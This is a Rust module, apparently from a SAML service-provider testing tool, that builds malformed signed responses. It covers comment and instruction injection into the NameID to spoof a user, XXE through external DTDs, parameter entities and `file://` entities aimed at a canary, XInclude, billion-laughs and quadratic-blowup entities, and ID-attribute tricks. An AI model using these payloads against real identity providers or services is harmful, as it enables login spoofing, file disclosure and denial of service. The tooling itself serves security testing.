//! Markup that readers disagree about: comments, CDATA and instructions in names; document types and entities.

use super::{FaultContext, step, step_at};
use crate::saml::plan::Plan;
use crate::xml::{Element, Node};

/// What stands where it should not.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Markup {
    /// In the subject: `00u-alice<!---->.evil`, signed (CVE-2017-11427 and its like).
    CommentInSubject,
    /// In the address: `alice@example.com<!---->.evil.example`, signed.
    CommentInAttribute,
    /// In the issuer, signed.
    CommentInIssuer,
    /// Anywhere else.
    CommentElsewhere,
    /// This many, where nobody reads.
    ManyComments(usize),
    /// `00u-alice<?x?>.evil`, signed.
    InstructionInSubject,
    /// A style sheet from the network, before the document.
    StyleSheet,
    /// The subject is CDATA, signed.
    CdataInSubject,
    /// A document type that declares nothing.
    DocumentType,
    /// An entity in the subject that comes to what was signed.
    InternalEntity,
    /// A document type from the network.
    ExternalDocumentType,
    /// A parameter entity from the network.
    ParameterEntity,
    /// An entity from the network.
    ExternalEntity,
    /// An entity from a file.
    FileEntity,
    /// An entity of entities of entities …
    BillionLaughs,
    /// One long entity, many times.
    QuadraticBlowup,
    /// An attribute list that makes another attribute the ID.
    AttributeList,
    /// The ID is an entity (CVE-2025-23369).
    EntityInId,
    /// XInclude, from a file.
    Include,
    /// A schema from the network.
    SchemaLocation,
}

impl Markup {
    pub(super) fn apply(self, plan: &mut Plan, context: &FaultContext<'_>) {
        let text = |text: &str| Node::Text(text.to_owned());
        let subject = |plan: &mut Plan, value: Vec<Node>| {
            plan.draft.assertion(|assertion| {
                if let Some(name_id) = &mut assertion.name_id {
                    name_id.value = value;
                }
            });
        };
        // Before the signature was made it was this; after the parser it may be again.
        let entity = |name: &str| Node::Raw {
            written: format!("&{name};"),
            meaning: "00u-alice".to_owned(),
        };
        match self {
            Self::CommentInSubject => subject(
                plan,
                vec![
                    text("00u-alice"),
                    Node::Comment(String::new()),
                    text(".evil"),
                ],
            ),
            Self::CommentInAttribute => plan.draft.assertion(|assertion| {
                if let Some(attribute) = assertion.attributes.first_mut() {
                    let evil = vec![
                        text("alice@example.com"),
                        Node::Comment(String::new()),
                        text(".evil.example"),
                    ];
                    attribute.values = vec![evil];
                }
            }),
            Self::CommentInIssuer => {
                plan.before_assertion_signature
                    .push(step_at(&["Issuer"], |issuer| {
                        issuer.children.push(Node::Comment("really".to_owned()));
                    }))
            }
            Self::CommentElsewhere => comments(plan, 1),
            Self::ManyComments(count) => comments(plan, count),
            Self::InstructionInSubject => subject(
                plan,
                vec![
                    text("00u-alice"),
                    Node::Instruction("x".to_owned()),
                    text(".evil"),
                ],
            ),
            Self::StyleSheet => {
                let href = context.canary.to_owned();
                before(
                    plan,
                    format!("<?xml-stylesheet href=\"{href}/style.xsl\" type=\"text/xsl\"?>"),
                );
            }
            Self::CdataInSubject => subject(plan, vec![Node::Cdata("00u-alice".to_owned())]),
            Self::DocumentType => before(plan, "<!DOCTYPE samlp:Response>".to_owned()),
            Self::InternalEntity => {
                subject(plan, vec![entity("e")]);
                doctype(plan, "<!ENTITY e \"00u-alice\">");
            }
            Self::ExternalDocumentType => {
                let canary = context.canary;
                before(
                    plan,
                    format!("<!DOCTYPE samlp:Response SYSTEM \"{canary}/saml.dtd\">"),
                );
            }
            Self::ParameterEntity => {
                doctype(
                    plan,
                    &format!("<!ENTITY % p SYSTEM \"{}/p.dtd\"> %p;", context.canary),
                );
            }
            Self::ExternalEntity => {
                subject(plan, vec![entity("e")]);
                doctype(
                    plan,
                    &format!("<!ENTITY e SYSTEM \"{}/e\">", context.canary),
                );
            }
            Self::FileEntity => {
                subject(plan, vec![entity("e")]);
                doctype(
                    plan,
                    &format!("<!ENTITY e SYSTEM \"file://{}\">", context.canary_file),
                );
            }
            Self::BillionLaughs => {
                subject(plan, vec![entity("l9")]);
                let laughs = (1..10).map(|level| {
                    let below = format!("&l{};", level - 1).repeat(10);
                    format!("<!ENTITY l{level} \"{below}\">")
                });
                doctype(
                    plan,
                    &format!("<!ENTITY l0 \"lol\">{}", laughs.collect::<String>()),
                );
            }
            Self::QuadraticBlowup => {
                let long = "x".repeat(50_000);
                subject(plan, vec![entity("e"); 2_000]);
                doctype(plan, &format!("<!ENTITY e \"{long}\">"));
            }
            Self::AttributeList => doctype(plan, "<!ATTLIST saml:Assertion Version ID #IMPLIED>"),
            Self::EntityInId => {
                plan.on_text.push(Box::new(|document| {
                    let end = document.find("\" Version=").unwrap_or_default();
                    let (head, tail) = document.split_at(end);
                    format!("{head}&e;{tail}")
                }));
                doctype(plan, "<!ENTITY e \"\">");
            }
            Self::Include => {
                let include = Element::new("xi:include")
                    .with("xmlns:xi", "http://www.w3.org/2001/XInclude")
                    .with("href", format!("file://{}", context.canary_file))
                    .with("parse", "text");
                plan.before_assertion_signature.push(step_at(
                    &["Subject", "NameID"],
                    move |name_id| {
                        name_id.append(include.clone());
                    },
                ));
            }
            Self::SchemaLocation => {
                let location = format!(
                    "urn:oasis:names:tc:SAML:2.0:protocol {}/p.xsd",
                    context.canary
                );
                plan.after_response_signature.push(step(move |response| {
                    response.set("xmlns:xsi", crate::saml::names::XSI);
                    response.set("xsi:schemaLocation", &location);
                }));
            }
        }
    }
}

fn comments(plan: &mut Plan, count: usize) {
    plan.after_response_signature
        .push(step_at(&["Assertion"], move |assertion| {
            let comments = (0..count).map(|n| Node::Comment(format!(" {n} ")));
            assertion.children.splice(1..1, comments);
        }));
}

fn before(plan: &mut Plan, text: String) {
    plan.on_text
        .push(Box::new(move |document| format!("{text}{document}")));
}

fn doctype(plan: &mut Plan, subset: &str) {
    before(plan, format!("<!DOCTYPE samlp:Response [{subset}]>"));
}
